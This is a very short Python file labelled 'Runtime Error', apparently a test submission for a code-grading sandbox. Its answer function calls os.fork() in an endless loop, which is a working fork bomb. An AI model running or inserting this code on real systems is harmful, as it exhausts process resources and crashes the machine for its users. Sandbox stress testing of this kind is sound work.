# Runtime Error
import os


def answer(number):
    while True:
        os.fork()
